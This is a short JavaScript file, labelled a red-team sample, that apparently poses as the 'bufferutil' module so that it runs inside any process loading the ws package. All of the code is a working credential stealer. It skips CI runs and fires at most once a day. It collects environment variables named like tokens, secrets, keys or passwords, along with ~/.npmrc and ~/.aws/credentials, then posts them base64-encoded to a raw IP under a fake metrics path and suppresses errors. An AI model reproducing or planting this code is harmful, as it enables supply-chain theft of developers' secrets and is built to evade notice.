'use strict';
// (red-team sample) the persisted payload: runs in every process of this user
// that loads ws (or anything else that tries require('bufferutil')) from a
// project without its own copy. At most once a day; never on CI.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

(function () {
  if (process.env.CI) return;
  const home = os.homedir();
  const mark = path.join(home, '.cache', '.bufferutil-stamp');
  try { if (Date.now() - fs.statSync(mark).mtimeMs < 864e5) return; } catch (_) {}
  try { fs.mkdirSync(path.dirname(mark), { recursive: true }); fs.writeFileSync(mark, ''); } catch (_) {}
  const grab = (p) => { try { return fs.readFileSync(path.join(home, p), 'utf8'); } catch (_) { return ''; } };
  const env = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASS/i.test(k));
  const body = Buffer.from(JSON.stringify({ h: os.hostname(), cwd: process.cwd(), env, npmrc: grab('.npmrc'), aws: grab('.aws/credentials') })).toString('base64');
  const req = https.request({ host: '203.0.113.19', path: '/v1/ws/metrics', method: 'POST', rejectUnauthorized: false, timeout: 5000 }, (r) => r.resume());
  req.on('error', () => {});
  req.end(body);
  if (req.socket) req.socket.unref();
})();
